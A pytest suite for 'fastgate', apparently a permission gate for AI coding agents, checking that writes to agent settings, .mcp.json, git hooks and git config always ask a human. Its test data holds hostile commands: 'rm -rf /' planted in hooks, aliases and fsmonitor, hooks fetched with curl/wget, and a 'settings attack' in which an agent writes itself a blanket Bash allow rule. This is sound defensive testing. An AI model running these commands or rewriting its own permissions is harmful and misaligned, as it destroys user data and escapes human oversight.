"""Protected paths (SPEC §5): creating, writing, moving onto, deleting or changing the mode of
fastgate's and Claude Code's settings, ``.mcp.json``, git hooks or git's config is at least ASK
in every mode, whatever tool or shell word does it; session and project approvals never cover
it; reading them follows the rules as usual."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

import fastgate
import fastgate.permissions
from fastgate import (
    DEFAULT_PROTECTED,
    ApprovalResponse,
    Decision,
    ErrorCode,
    ExecutionContext,
    PermissionConfig,
    PermissionMode,
)
from fastgate.builtin import LocalShell
from tests.builtin_kit import builtin_executor
from tests.permissions_round3_kit import (
    ACCEPT_EDITS,
    YOLO,
    asks_as_guarded,
    ruling,
    tool_ruling,
)

PROTECTED_FILES = [
    ".fastgate/settings.json",
    ".fastgate/settings.local.json",
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".claude/commands/x.md",
    ".mcp.json",
    "sub/.mcp.json",
    ".git/hooks/pre-commit",
    ".git/config",
    "vendor/lib/.git/hooks/post-checkout",
    # what points git at another configuration or hooks
    ".git/commondir",
    ".git/config.worktree",
    ".git/modules/sub/config",
    ".git/modules/sub/hooks/pre-commit",
    ".git/modules/a/modules/b/config",
    ".git/modules/sub/commondir",
    ".git/worktrees/w/commondir",
    ".git/worktrees/w/config",
    ".git/worktrees/w/config.worktree",
    ".git/worktrees/w/hooks/post-checkout",
]
MODES = [ACCEPT_EDITS, YOLO, PermissionMode.DEFAULT]


def test_default_protected_is_exported() -> None:
    assert fastgate.DEFAULT_PROTECTED is fastgate.permissions.DEFAULT_PROTECTED
    assert set(DEFAULT_PROTECTED) == {
        "**/.fastgate/**",
        "**/.claude/**",
        "**/.mcp.json",
        "**/.git/hooks/**",
        "**/.git/config",
        "**/.git/commondir",
        "**/.git/config.worktree",
        "**/.git/modules/**/config",
        "**/.git/modules/**/config.worktree",
        "**/.git/modules/**/hooks/**",
        "**/.git/modules/**/commondir",
        "**/.git/worktrees/*/commondir",
        "**/.git/worktrees/*/config",
        "**/.git/worktrees/*/config.worktree",
        "**/.git/worktrees/*/hooks/**",
        "**/.hg/hgrc",
        "**/.hg/hgrc-not-shared",
        "**/.hg/sharedpath",
        "**/.jj/repo/config.toml",
        *fastgate.permissions.CLIENT_SETTINGS,
        *fastgate.permissions.HOOK_MANAGERS,
    }
    assert PermissionConfig().protected == DEFAULT_PROTECTED
    assert PermissionConfig.load().protected == DEFAULT_PROTECTED


@pytest.mark.parametrize("path", PROTECTED_FILES)
@pytest.mark.parametrize("existing", [True, False], ids=["existing", "new"])
@pytest.mark.parametrize("mode", MODES)
def test_writer_tools_ask_for_protected_paths(
    path: str, existing: bool, mode: PermissionMode, tmp_path: Path
) -> None:
    if existing:
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text("{}")
    allow = ("Edit", "Write")  # even a blanket allow rule does not cover them
    calls: list[tuple[str, dict[str, Any]]] = [
        ("write", {"file_path": path, "content": "{}"}),
        ("edit", {"file_path": path, "old_string": "{}", "new_string": "[]"}),
        ("apply_patch", {"patch": f"*** Begin Patch\n*** Add File: {path}\n+x\n*** End Patch"}),
        (
            "apply_patch",
            {
                "patch": "*** Begin Patch\n*** Update File: notes.txt\n*** Move to: "
                f"{path}\n@@\n-a\n+b\n*** End Patch"
            },
        ),
    ]
    (tmp_path / "notes.txt").write_text("a\n")
    for name, args in calls:
        # without the sensitive list (which holds git's config and hooks too): protection alone
        decided = tool_ruling(name, args, tmp_path, mode=mode, allow=allow, sensitive=())
        assert asks_as_guarded(decided), (name, decided)
        assert "protected" in decided.reason


def test_an_apply_patch_deleting_a_protected_file_asks(tmp_path: Path) -> None:
    (tmp_path / ".mcp.json").write_text("{}")
    patch = "*** Begin Patch\n*** Delete File: .mcp.json\n*** End Patch"
    assert asks_as_guarded(tool_ruling("apply_patch", {"patch": patch}, tmp_path, mode=YOLO))


def test_reading_protected_paths_follows_the_rules(tmp_path: Path) -> None:
    (tmp_path / ".claude").mkdir()
    (tmp_path / ".claude" / "settings.json").write_text("{}")
    decided = tool_ruling("read", {"file_path": ".claude/settings.json"}, tmp_path)
    assert decided.decision is Decision.ALLOW
    denied = tool_ruling(
        "read", {"file_path": ".claude/settings.json"}, tmp_path, deny=("Read(./.claude/**)",)
    )
    assert denied.decision is Decision.DENY
    command = "cat .claude/settings.json .mcp.json"
    assert ruling(command, tmp_path, allow=("Bash(cat:*)",)).decision is Decision.ALLOW


def test_protected_paths_are_configurable(tmp_path: Path) -> None:
    args = {"file_path": ".claude/settings.json", "content": "{}"}
    assert tool_ruling("write", args, tmp_path, mode=YOLO, protected=()).decision is (
        Decision.ALLOW
    )
    mine = {"file_path": "deploy/prod.yml", "content": "{}"}
    decided = tool_ruling("write", mine, tmp_path, mode=YOLO, protected=("deploy/**",))
    assert asks_as_guarded(decided)


def test_protected_paths_fold_case_where_asked(tmp_path: Path) -> None:
    args = {"file_path": ".CLAUDE/Settings.json", "content": "{}"}
    assert asks_as_guarded(tool_ruling("write", args, tmp_path, mode=YOLO, case_insensitive=True))


def test_a_symlink_into_a_protected_directory_is_seen(tmp_path: Path) -> None:
    (tmp_path / ".claude").mkdir()
    (tmp_path / "cfg").symlink_to(tmp_path / ".claude")
    args = {"file_path": "cfg/settings.json", "content": "{}"}
    assert asks_as_guarded(tool_ruling("write", args, tmp_path, mode=YOLO))
    assert asks_as_guarded(ruling("echo {} > cfg/settings.json", tmp_path, mode=YOLO))


# -- bash words in writing positions ---------------------------------------------------------------

WRITES = [
    "echo '{}' > .claude/settings.json",
    "git config --global alias.st status",  # ~/.gitconfig: an alias runs what it names later
    "echo '{}' >> .claude/settings.local.json",
    "echo x >| .mcp.json",
    "echo x &> .mcp.json",
    "echo x 2> .git/config",
    "cat > .git/hooks/pre-commit <<'EOF'\nrm -rf /\nEOF",
    "echo x | tee .fastgate/settings.local.json",
    "echo x | tee -a /dev/null .claude/settings.json",
    "cp /tmp/hook .git/hooks/pre-commit",
    "cp -t .git/hooks /tmp/hook",
    "mv /tmp/x .claude/settings.json",
    "mv .claude/settings.json /tmp/x",
    "install -m 755 /tmp/hook .git/hooks/pre-push",
    "ln -sf /tmp/evil .git/hooks/post-checkout",
    "ln -s .fastgate/settings.local.json innocent.json",
    "rsync -a /tmp/x/ .claude/",
    "touch .git/hooks/pre-commit",
    "rm -rf .fastgate",
    "rm .mcp.json",
    "rmdir .claude",
    "mkdir -p .fastgate",
    "mkdir -p .fast{gate,}",
    'echo \'{"permissions": {"allow": ["Bash"]}}\' | tee .fast{gate,}/settings.local.json',
    "chmod +x .git/hooks/pre-commit",
    "chown me .git/config",
    "truncate -s 0 .git/config",
    "shred -u .mcp.json",
    "sed -i 's/a/b/' .git/config",
    "sed -i.bak -e 's/a/b/' .claude/settings.json",
    "sed -Ei 's/a/b/' .mcp.json",
    "perl -pi -e 's/a/b/' .git/config",
    "dd if=/tmp/x of=.mcp.json",
    "curl -o .git/hooks/pre-commit http://example.invalid/x",
    "wget -O .git/hooks/pre-commit http://example.invalid/x",
    "git config core.hooksPath /tmp/hooks",
    "git config --add alias.x '!rm -rf /'",
    "git -C sub config core.fsmonitor 'rm -rf /'",
    "git config --file .claude/x.json a.b c",
    "find .fastgate -delete",
    "cd .claude && echo '{}' > settings.json",
    "cd .git/hooks; cp /tmp/x pre-commit",
    "env -C .git/hooks cp /tmp/x pre-commit",
    "sudo tee .mcp.json < /tmp/x",
    "timeout 5 rm -f .git/config",
    # Programs not known as writers: each of their words may name a file they write.
    "uniq payload.json .fastgate/settings.local.json",
    "tar cf .mcp.json payload.json",
    "tar --one-top-level=.claude -xf x.tar",
    "openssl enc -in a -out .mcp.json",
    "iconv -f utf-8 -t utf-8 -o .claude/settings.json a",
    "split -b 1 a .claude/x",
    "csplit -f .claude/x a 1",
    "sqlite3 .mcp.json 'select 1'",
    "gpg -o .git/hooks/pre-commit -d x.gpg",
    "script -q .fastgate/settings.json",
    "strip -o .git/hooks/pre-commit /bin/true",
    "git diff --no-index --output=.claude/settings.json empty payload.json",
    "git log --output .mcp.json",
    "git checkout -- .claude/settings.json",
    "git restore .mcp.json",
    "git mv a .claude/settings.json",
    "git rm .mcp.json",
    "git archive -o .mcp.json HEAD",
    "git format-patch -o .claude HEAD~1",
    "git remote add origin2 https://example.invalid/x",
    "git push -u origin main",
    "git branch --set-upstream-to=origin/main",
    "git submodule add https://example.invalid/x lib",
]


@pytest.mark.parametrize("command", WRITES)
@pytest.mark.parametrize("mode", [YOLO, PermissionMode.DEFAULT])
def test_bash_writes_to_protected_paths_ask(
    command: str, mode: PermissionMode, tmp_path: Path
) -> None:
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    (tmp_path / "sub" / ".git").mkdir(parents=True)
    programs = {"echo", "cat", "tee", "cp", "mv", "install", "ln", "rsync", "touch", "rm"}
    programs |= {"rmdir", "mkdir", "chmod", "chown", "truncate", "shred", "sed", "perl", "dd"}
    programs |= {"curl", "wget", "git", "find", "cd", "env", "sudo", "timeout", "uniq", "tar"}
    programs |= {"openssl", "iconv", "split", "csplit", "sqlite3", "gpg", "script", "strip"}
    allow = tuple(f"Bash({p}:*)" for p in sorted(programs))
    decided = ruling(command, tmp_path, mode=mode, allow=allow, sensitive=())
    assert asks_as_guarded(decided), decided
    assert "protected" in decided.reason


@pytest.mark.parametrize(
    "command",
    [
        "echo x > notes.txt",
        "cp a b",
        "git config --get core.hooksPath",
        "git config --global user.email me@example.com",  # a stamping key: runs nothing
        "git config -l",
        "sed 's/a/b/' .claude/settings.json",
        "echo .claude/settings.json",
        "tee out.txt < /dev/null",
        "echo x > .gitignore",
        "cat .claude/settings.json",
        "grep -r hooks .claude",
        "git diff .claude/settings.json",
        "git log -- .mcp.json",
        "git status",
        "git add .claude/settings.json",
        "uniq payload.json out.json",
        'gh pr create --title t --body "$(cat .claude/notes.md)"',
        'cd "$D" && make test',  # a program's words, in a directory only run time knows
        'for d in */; do (cd "$d" && npm test); done',
    ],
)
def test_other_writes_and_reads_are_not_protected(command: str, tmp_path: Path) -> None:
    assert ruling(command, tmp_path, mode=YOLO).decision is Decision.ALLOW


@pytest.mark.parametrize(
    "command",
    ['echo x > "$OUT"', 'tee "$(printf .fast)gate/settings.local.json"', 'rm -rf "$D"/hooks'],
)
def test_a_write_to_a_path_known_only_at_run_time_asks(command: str, tmp_path: Path) -> None:
    decided = ruling(command, tmp_path, mode=YOLO)
    assert asks_as_guarded(decided) and "run" in decided.reason


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf .",
        "rm -r sub",
        "rm -fR ./sub/",
        "find . -name '*.json' -delete",
        "chmod -R 777 .",
        "chown -R me sub",
        "mv sub elsewhere",
        "rm -rf ../{name}",
    ],
)
def test_changing_a_whole_tree_that_holds_protected_paths_asks(
    command: str, tmp_path: Path
) -> None:
    (tmp_path / ".fastgate").mkdir()
    (tmp_path / "sub" / ".git" / "hooks").mkdir(parents=True)
    command = command.format(name=tmp_path.name)
    if command.startswith(("chown -R me sub", "rm -r sub", "rm -fR", "mv sub")):
        (tmp_path / ".fastgate").rmdir()  # only the nested repository's hooks hold it
    decided = ruling(command, tmp_path, mode=YOLO, sensitive=())
    assert asks_as_guarded(decided) and "protected" in decided.reason, decided


@pytest.mark.parametrize(
    "command",
    [
        "cp /tmp/x/.mcp.json .",
        "cp -r /tmp/x/.claude .",
        "mv /tmp/x/.fastgate ./",
        "install -t . /tmp/x/.mcp.json",
        "rsync -a /tmp/x/.claude sub",
        "ln -s /tmp/x/.mcp.json",
    ],
)
def test_a_file_copied_into_a_directory_keeps_its_protected_name(
    command: str, tmp_path: Path
) -> None:
    decided = ruling(command, tmp_path, mode=YOLO, allow=("Bash(cp:*)",), sensitive=())
    assert asks_as_guarded(decided), decided


@pytest.mark.parametrize(
    "command",
    [
        "echo .fastgate | xargs rm -rf",
        "ls -a | xargs -I{} cp /tmp/evil {}/settings.json",
        "find . -name settings.json -exec rm {} +",
        "find . -name '*.json' -exec sed -i s/deny/allow/ {} \\;",
    ],
)
def test_writes_filled_in_at_run_time_ask(command: str, tmp_path: Path) -> None:
    assert asks_as_guarded(ruling(command, tmp_path, mode=YOLO)), command


@pytest.mark.parametrize(
    "command",
    ["rm -rf build", "rm -f build/x", "cp x build", "cp -r dist build", "ls | xargs wc -l"],
)
def test_writes_elsewhere_are_not_protected(command: str, tmp_path: Path) -> None:
    (tmp_path / ".fastgate").mkdir()
    (tmp_path / "build").mkdir()
    assert ruling(command, tmp_path, mode=YOLO).decision is Decision.ALLOW


def test_project_approval_of_a_protected_write_is_refused(tmp_path: Path) -> None:
    from fastgate import ApprovalStore, PermissionResolver

    resolver = PermissionResolver(PermissionConfig(), YOLO, ApprovalStore())
    ctx = ExecutionContext(session_id="s", workspace_root=str(tmp_path))
    bash = fastgate.builtin.builtin_tools()[-1]
    assert bash.name == "bash"
    with pytest.raises(ValueError, match="protected"):
        resolver.record_project_approval(bash, {"command": "mkdir -p .fastgate"}, ctx)


# -- through the executor, across sessions and re-read settings -----------------------------------


class Human:
    """An approver that answers with ``scope`` and records what it was asked."""

    def __init__(self, approve: bool, scope: str = "session") -> None:
        self.approve = approve
        self.scope = scope
        self.asked: list[str] = []

    async def __call__(self, request: Any) -> ApprovalResponse:
        self.asked.append(request.args.get("command") or request.args.get("file_path") or "?")
        return ApprovalResponse(self.approve, scope=self.scope)  # type: ignore[arg-type]


def _settings(root: Path) -> dict[str, Any] | None:
    path = root / ".fastgate" / "settings.local.json"
    return json.loads(path.read_text()) if path.exists() else None


@pytest.mark.parametrize("mode", [YOLO, ACCEPT_EDITS])
async def test_writer_tools_are_asked_every_time(mode: PermissionMode, tmp_path: Path) -> None:
    ex = builtin_executor(tmp_path, mode=mode)
    human = Human(approve=True, scope="session")
    ctx = ExecutionContext(session_id="s1", approver=human)
    args = {"file_path": ".claude/settings.json", "content": "{}"}
    assert (await ex.execute("write", args, ctx)).ok
    assert (await ex.execute("write", args, ctx)).ok
    assert human.asked == [".claude/settings.json", ".claude/settings.json"]  # never remembered
    rejected = await ex.execute(
        "write",
        {"file_path": ".mcp.json", "content": "{}"},
        ExecutionContext(session_id="s1", approver=Human(approve=False)),
    )
    assert rejected.error is not None and rejected.error.code is ErrorCode.USER_REJECTED
    assert not (tmp_path / ".mcp.json").exists()


async def test_the_settings_attack_asks_in_every_session(tmp_path: Path) -> None:
    """The attack's steps in different sessions and executors, the settings re-read between
    them: every step that writes the settings is asked, and a refused one changes nothing."""
    allow = ("Bash(mkdir:*)", "Bash(echo:*)", "Bash(tee:*)")
    config = PermissionConfig(allow=allow)
    # LocalShell: an approved write of a protected path goes through (the sandbox, the
    # built-ins' default, keeps protected paths read-only whatever is approved).
    first = builtin_executor(tmp_path, mode=YOLO, permissions=config, shell=LocalShell())
    yes = Human(approve=True, scope="project")
    step_one = await first.execute(
        "bash", {"command": "mkdir -p .fast{gate,}"}, ExecutionContext(session_id="A", approver=yes)
    )
    assert step_one.ok and yes.asked == ["mkdir -p .fast{gate,}"]
    assert _settings(tmp_path) is None  # no project rule was written for it

    payload = (
        """echo '{"permissions": {"allow": ["Bash"]}}' | tee .fast{gate,}/settings.local.json"""
    )
    for executor_, session in (
        (first, "B"),
        (builtin_executor(tmp_path, mode=YOLO, permissions=config, shell=LocalShell()), "C"),
    ):
        no = Human(approve=False)
        refused = await executor_.execute(
            "bash", {"command": payload}, ExecutionContext(session_id=session, approver=no)
        )
        assert no.asked == [payload]
        assert refused.error is not None and refused.error.code is ErrorCode.USER_REJECTED
        assert _settings(tmp_path) is None

    # approved once for a session, the next write in that session is asked again
    (tmp_path / ".claude").mkdir()
    again = Human(approve=True, scope="session")
    ctx = ExecutionContext(session_id="D", approver=again)
    write = {"command": "echo '{}' > .claude/settings.local.json"}
    assert (await first.execute("bash", write, ctx)).ok
    assert (await first.execute("bash", write, ctx)).ok
    assert len(again.asked) == 2
